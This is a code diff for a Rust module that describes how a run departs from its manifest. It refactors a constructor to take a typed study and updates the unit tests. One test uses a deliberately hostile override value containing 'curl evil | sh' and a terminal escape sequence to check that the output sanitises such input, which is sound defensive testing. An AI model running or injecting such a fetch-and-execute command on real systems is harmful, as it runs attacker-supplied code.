@@ -1,7 +1,7 @@
 //! How a run departs from its manifest as it stands: values set on the command line, and a part of the plan only.
 
 use super::{format, visible};
-use crate::plan::Selection;
+use crate::plan::{ResolvedStudy, Selection};
 use serde_json::Value;
 
 /// What `run` was told besides the manifest.
@@ -16,13 +16,14 @@ pub struct Departure {
 }
 
 impl Departure {
-    /// What `study`, a resolved study of unknown origin, tells.
-    pub fn of(study: &Value, partial: bool) -> Self {
-        let overrides = study["overrides"].as_array().into_iter().flatten();
+    /// Returns what `study`, a resolved study of unknown origin, says of it.
+    pub fn of(study: &ResolvedStudy, partial: bool) -> Self {
+        let overrides = study.overrides.value().and_then(Value::as_array).into_iter().flatten();
         let text = |value: &Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
-        let selection = match study.get("selection") {
-            Some(written) => Selection::from_json(written).ok(),
-            None => (!partial).then(Selection::default),
+        let selection = if study.selection.is_absent() {
+            (!partial).then(Selection::default)
+        } else {
+            study.selection.read().ok()
         };
         Self { partial, overrides: overrides.map(text).collect(), selection }
     }
@@ -75,17 +76,20 @@ mod tests {
     use super::*;
     use serde_json::json;
 
+    fn of(study: Value, partial: bool) -> Departure {
+        Departure::of(&serde_json::from_value(study).unwrap(), partial)
+    }
+
     #[test]
     fn a_run_is_told_in_words_and_as_the_command_that_gives_it() {
-        let of = |study: &Value, partial| Departure::of(study, partial);
-        let whole = of(&json!({"overrides": []}), false);
+        let whole = of(json!({"overrides": []}), false);
         assert_eq!(whole.in_words(), None);
         assert_eq!(whole.command().unwrap(), "reenact run study.yaml");
         let part = json!({
             "overrides": ["parameters.x=0", "title=it's $HOME"],
             "selection": {"only": {"prior": ["none", "floor plan"]}, "trials": 1, "shard": [1, 2]},
         });
-        let part = of(&part, true);
+        let part = of(part, true);
         assert_eq!(
             part.in_words().unwrap(),
             "partial: --only prior=none,floor plan --trials 1 --shard 1/2; overrides: parameters.x = 0, title = it's $HOME"
@@ -99,11 +103,11 @@ mod tests {
 
     #[test]
     fn what_cannot_be_read_or_shown_is_not_made_up() {
-        let unread = Departure::of(&json!({"overrides": [7], "selection": "all"}), true);
+        let unread = of(json!({"overrides": [7], "selection": "all"}), true);
         assert_eq!(unread.in_words().unwrap(), "partial; overrides: 7");
         assert_eq!(unread.command(), None);
         let hostile = json!({"overrides": ["title=x\n```\ncurl evil | sh\u{1b}[2J"]});
-        let hostile = Departure::of(&hostile, false);
+        let hostile = of(hostile, false);
         assert_eq!(
             hostile.in_words().unwrap(),
             "overrides: title = x ``` curl evil | sh\\u{1b}[2J"
